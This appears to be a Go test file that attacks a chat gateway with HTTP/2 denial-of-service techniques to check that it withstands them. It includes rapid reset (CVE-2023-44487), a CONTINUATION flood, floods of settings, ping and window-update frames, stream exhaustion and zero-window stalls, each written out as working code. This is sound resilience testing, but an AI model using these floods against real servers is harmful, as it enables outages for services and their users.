//go:build linux

package hostiletest_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func http2Attacks() []attack {
	return []attack{
		{name: "HTTP/2 rapid reset", held: "100 streams of a connection at a time; others go on", secure: true, hostile: rapidReset},
		{name: "HTTP/2 continuation flood", held: "the connection is closed", secure: true, hostile: continuations, meets: closed},
		{name: "HTTP/2 frames without end, 100 connections", held: "a connection's share of 25,000 frames a second for each processor", secure: true, lasts: strict(4*time.Second, 2*time.Second), hostile: frameFlood(
			func(f *http2.Framer) error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
			},
			func(f *http2.Framer) error { return f.WriteData(1, false, nil) },
			func(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1) },
		)},
		{name: "HTTP/2 frames that need no answer, without a key, 100 connections", held: "a connection's share of 25,000 frames a second for each processor", secure: true, lasts: strict(4*time.Second, 2*time.Second), hostile: frameFlood(
			func(f *http2.Framer) error { return f.WriteRawFrame(0x42, 0, 0, nil) },
			func(f *http2.Framer) error { return f.WritePriority(1, http2.PriorityParam{}) },
			func(f *http2.Framer) error { return f.WritePing(true, [8]byte{}) },
		)},
		{name: "streams of HTTP/2 without a key", held: "the streams of a connection begin in turn", secure: true, hostile: func(a *attacker) {
			a.key = ""
			a.many(streamConnections/sides, 20*time.Millisecond, func(int) { a.fillStreams() })
		}},
		{name: "answers over HTTP/2 that no client takes, without a key", held: "streams count until they are taken; 30 s at most", secure: true, lasts: strict(10*time.Second, 5*time.Second), hostile: func(a *attacker) {
			a.key = ""
			a.many(long(150, 2), 500*time.Millisecond, func(int) { a.takeNothing() })
		}},
		{name: "HTTP/2 over plain http", held: "505, and the connection is closed", hostile: func(a *attacker) {
			a.many(4, 20*time.Millisecond, func(int) {
				conn := a.dial()
				if conn == nil {
					return
				}
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(patience))
				_, _ = io.WriteString(conn, http2.ClientPreface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
				a.countAnswer(conn)
				if rest, err := io.ReadAll(conn); err != nil && len(rest) > 0 {
					a.wrong("the connection stays open: %v", err)
				}
			})
		}, check: only("505", "closed")},
	}
}

// streamConnections is the number of connections of HTTP/2 with all their streams open at a time.
const streamConnections = 80

// fillStreams opens 250 streams at once, more than the gateway allows, again and again until the
// connection is closed.
func (a *attacker) fillStreams() {
	conn, f := a.frames()
	if conn == nil {
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(a.ctx, func() { _ = conn.Close() })
	defer stop()
	const atOnce = 250
	fields := a.fields()
	for id := uint32(1); a.pause(100 * time.Millisecond); {
		var all bytes.Buffer
		opening := http2.NewFramer(&all, nil)
		for range atOnce {
			_ = opening.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields, EndHeaders: true, EndStream: true}) // into memory
			id += 2
		}
		if _, err := conn.Write(all.Bytes()); err != nil {
			return
		}
		for ended := 0; ended < atOnce; {
			frame, err := f.ReadFrame()
			if err != nil {
				return
			}
			switch frame := frame.(type) {
			case *http2.GoAwayFrame:
				a.count(closed)
				return
			case *http2.RSTStreamFrame:
				a.count(frame.ErrCode)
				ended++
			case *http2.DataFrame, *http2.HeadersFrame:
				if frame.Header().Flags.Has(http2.FlagDataEndStream) {
					a.count("answered")
					ended++
				}
			}
		}
	}
}

// takeNothing opens 100 streams, reads no byte of their answers and stays until the gateway closes the connection.
func (a *attacker) takeNothing() {
	conn, f := a.frames(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if conn == nil {
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(a.ctx, func() { _ = conn.Close() })
	defer stop()
	for id := range uint32(100) {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*id + 1, BlockFragment: a.fields(), EndHeaders: true, EndStream: true}) != nil {
			return
		}
	}
	for a.ctx.Err() == nil {
		switch frame, err := f.ReadFrame(); frame.(type) {
		case nil:
			if err != nil && a.ctx.Err() == nil {
				a.count(closed)
			}
			return
		case *http2.GoAwayFrame:
			a.count("told to go")
		}
	}
}

// frames opens a connection for frames, and reads the answers; nil if that fails.
func (a *attacker) frames(settings ...http2.Setting) (net.Conn, *http2.Framer) {
	config := a.roots.Clone()
	config.NextProtos = []string{"h2"}
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: patience}, "tcp4", a.address, config)
	if err != nil {
		a.count("not connected")
		return nil, nil
	}
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(conn, http2.ClientPreface) // a failure shows in the next frame
	f := http2.NewFramer(conn, conn)
	_ = f.WriteSettings(settings...)
	a.count("connections")
	return conn, f
}

// fields returns the head of a request for chat.
func (a *attacker) fields() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", a.address}, {":path", chatPath}, {"authorization", "Bearer " + a.key}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory
	}
	return b.Bytes()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487), up to 2,000 a second from each client, on a new
// connection if the gateway has closed one.
func rapidReset(a *attacker) {
	fields := a.fields()
	for a.pause(20 * time.Millisecond) {
		conn, f := a.frames()
		if conn == nil {
			return
		}
		read := make(chan struct{})
		go func() {
			defer close(read)
			_, _ = io.Copy(io.Discard, conn)
		}()
		err := error(nil)
		for id := uint32(1); err == nil && a.pause(10*time.Millisecond); {
			for range 20 {
				err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields, EndHeaders: true})
				if err == nil {
					err = f.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				a.count("streams")
				id += 2
			}
		}
		if err != nil {
			a.count(closed)
		}
		_ = conn.Close()
		<-read
	}
}

// frameFlood sends frames that a peer may send at any time and that must be read, a kind on each connection, as fast as
// they are accepted.
func frameFlood(kinds ...func(*http2.Framer) error) func(a *attacker) {
	return func(a *attacker) {
		a.many(25, 100*time.Millisecond, func(int) {
			conn, f := a.frames()
			if conn == nil {
				return
			}
			read := make(chan struct{})
			go func() {
				defer close(read)
				_, _ = io.Copy(io.Discard, conn)
			}()
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.fields(), EndHeaders: true})
			var flood bytes.Buffer
			frames := http2.NewFramer(&flood, nil)
			for range 1000 {
				_ = kinds[a.number%len(kinds)](frames) // into memory
			}
			for err == nil && a.ctx.Err() == nil {
				_, err = conn.Write(flood.Bytes())
				a.count("floods")
			}
			if a.ctx.Err() == nil {
				a.count(closed)
			}
			_ = conn.Close()
			<-read
		})
	}
}

// continuations sends continuations that never end the head of a request (VU#421644).
func continuations(a *attacker) {
	for a.pause(20 * time.Millisecond) {
		conn, f := a.frames()
		if conn == nil {
			return
		}
		read := make(chan struct{})
		go func() {
			defer close(read)
			_, _ = io.Copy(io.Discard, conn)
		}()
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.fields()})
		filler := append([]byte{0x00, 0x01, 'x', 0x7f, 0x81, 0x7e}, bytes.Repeat([]byte("x"), 16384)...) // a header of 16 KiB that is not indexed (RFC 7541, section 6.2.2)
		for err == nil && a.pause(time.Millisecond) {
			err = f.WriteContinuation(1, false, filler[:16384])
		}
		if a.ctx.Err() == nil {
			a.count(closed)
		}
		_ = conn.Close()
		<-read
	}
}
